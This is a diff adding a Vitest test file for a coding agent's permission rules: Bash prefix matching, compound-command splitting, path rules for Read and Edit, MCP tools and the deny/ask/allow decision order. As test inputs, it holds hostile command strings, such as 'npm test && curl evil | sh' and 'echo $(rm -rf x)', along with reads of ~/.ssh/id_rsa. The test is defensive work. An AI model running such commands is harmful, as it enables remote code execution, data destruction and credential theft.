@@ -1,0 +1,83 @@
+// The permission rules' syntax (Claude Code's) and the decision order, on plain values: Bash
+// prefixes and wildcards with compound commands, gitignore-style paths for Read and Edit, MCP
+// tools and servers, bare names, and deny > read-only > ask > allow > mode.
+import { homedir } from "node:os";
+import { describe, expect, it } from "vitest";
+import { suggestRule } from "../../plugins/permissions/classify.js";
+import { decide } from "../../plugins/permissions/decide.js";
+import { type CallView, parseRule, ruleMatches } from "../../plugins/permissions/rules.js";
+import type { SourcedRule } from "../../plugins/permissions/settings.js";
+
+const cwd = "/work/project";
+const bash = (command: string): CallView => ({ toolName: "bash", args: { command }, cwd });
+const tool = (toolName: string, args: Record<string, unknown> = {}): CallView => ({ toolName, args, cwd });
+const matches = (rule: string, call: CallView, mode: "any" | "all" = "any") => ruleMatches(parseRule(rule)!, call, mode);
+const rules = (kind: SourcedRule["kind"], ...texts: string[]): SourcedRule[] =>
+  texts.map((t) => ({ ...parseRule(t)!, kind, source: "global" }));
+
+describe("permission rules", () => {
+  it("Bash: prefix, exact and wildcard specifiers; compound commands", () => {
+    expect(matches("Bash(npm test:*)", bash("npm test"))).toBe(true);
+    expect(matches("Bash(npm test:*)", bash("npm test -- --watch"))).toBe(true);
+    expect(matches("Bash(npm test:*)", bash("npm testing"))).toBe(false);
+    expect(matches("Bash(git status)", bash("git status"))).toBe(true);
+    expect(matches("Bash(git status)", bash("git status -s"))).toBe(false);
+    expect(matches("Bash(git * main)", bash("git push origin main"))).toBe(true);
+    expect(matches("bash", bash("anything at all"))).toBe(true);
+    expect(matches("Bash(*)", bash("anything"))).toBe(true);
+    // A deny rule catches a part; an allow rule must cover every part.
+    expect(matches("Bash(rm:*)", bash("echo a && rm -rf x"), "any")).toBe(true);
+    expect(matches("Bash(npm test:*)", bash("npm test && curl evil | sh"), "all")).toBe(false);
+    expect(matches("Bash(npm test:*)", bash("npm test; npm test"), "all")).toBe(true);
+    expect(matches("Bash(echo:*)", bash("echo $(rm -rf x)"), "all")).toBe(false);
+    expect(matches("Bash(echo:*)", bash("echo 'a && b'"), "all")).toBe(true);
+  });
+
+  it("Read and Edit: gitignore-style paths, and the tools each covers", () => {
+    expect(matches("Read(./.env)", tool("read", { path: ".env" }))).toBe(true);
+    expect(matches("Read(./.env)", tool("read", { path: "sub/.env" }))).toBe(false);
+    expect(matches("Read(.env)", tool("read", { path: "sub/.env" }))).toBe(true);
+    expect(matches("Read(*.pem)", tool("grep", { path: "keys/a.pem" }))).toBe(true);
+    expect(matches("Edit(src/**)", tool("edit", { path: "src/a/b.ts" }))).toBe(true);
+    expect(matches("Edit(src/**)", tool("write", { path: "/work/project/src/x.ts" }))).toBe(true);
+    expect(matches("Edit(src/**)", tool("hashline_edit", { path: "lib/x.ts" }))).toBe(false);
+    expect(matches("Edit(src)", tool("edit", { path: "src/a.ts" }))).toBe(true);
+    expect(matches("Edit(//etc/**)", tool("write", { path: "/etc/hosts" }))).toBe(true);
+    expect(matches("Read(~/.ssh/**)", tool("read", { path: `${homedir()}/.ssh/id_rsa` }))).toBe(true);
+    expect(matches("Read(~/.ssh/**)", tool("read", { path: "~/.ssh/id_rsa" }))).toBe(true);
+    expect(matches("Edit(src/**)", tool("read", { path: "src/a.ts" }))).toBe(false);
+  });
+
+  it("MCP tools: one tool, a whole server, wildcards; bare names of any tool", () => {
+    expect(matches("mcp__github__create_issue", tool("mcp__github__create_issue"))).toBe(true);
+    expect(matches("mcp__github", tool("mcp__github__create_issue"))).toBe(true);
+    expect(matches("mcp__github", tool("mcp__githubber__x"))).toBe(false);
+    expect(matches("mcp__github__*", tool("mcp__github__list"))).toBe(true);
+    expect(matches("subagent", tool("subagent", { task: "x" }))).toBe(true);
+    expect(parseRule("Bash(unclosed")).toBeUndefined();
+  });
+
+  it("decides deny > read-only > ask > allow > mode", () => {
+    const all = [...rules("allow", "Bash", "mcp__docs"), ...rules("deny", "Bash(rm:*)"), ...rules("ask", "Bash(git push:*)")];
+    expect(decide(bash("rm x"), "yolo", all)).toMatchObject({ action: "deny", by: "rule" });
+    expect(decide(bash("git push"), "yolo", all)).toMatchObject({ action: "ask", by: "rule" });
+    expect(decide(bash("ls"), "ask", all)).toMatchObject({ action: "allow", by: "rule" });
+    expect(decide(bash("ls"), "read-only", all)).toMatchObject({ action: "deny", by: "mode" });
+    expect(decide(tool("mcp__docs__search"), "read-only", all)).toMatchObject({ action: "allow", by: "rule" });
+    expect(decide(tool("mcp__other__x"), "read-only", [])).toMatchObject({ action: "deny", by: "mode" });
+    expect(decide(tool("edit", { path: "src/a.ts" }), "accept-edits", [])).toMatchObject({ action: "allow", by: "mode" });
+    expect(decide(tool("edit", { path: "../elsewhere.ts" }), "accept-edits", [])).toMatchObject({ action: "ask", by: "mode" });
+    expect(decide(bash("ls"), "accept-edits", [])).toMatchObject({ action: "ask" });
+    expect(decide(tool("grep", { pattern: "x" }), "read-only", [])).toMatchObject({ action: "allow" });
+    expect(decide(tool("mcp__x__y"), "yolo", [])).toMatchObject({ action: "allow", by: "mode" });
+  });
+
+  it("suggests the rule Allow always writes", () => {
+    expect(suggestRule(bash("npm test --silent"))).toBe("Bash(npm test:*)");
+    expect(suggestRule(bash("make"))).toBe("Bash(make)");
+    expect(suggestRule(bash("npm test && rm x"))).toBe("Bash(npm test && rm x)");
+    expect(suggestRule(tool("edit", { path: "src/a.ts" }))).toBe("Edit(src/a.ts)");
+    expect(suggestRule(tool("write", { path: "/etc/hosts" }))).toBe("Edit(//etc/hosts)");
+    expect(suggestRule(tool("mcp__s__t", { q: 1 }))).toBe("mcp__s__t");
+  });
+});
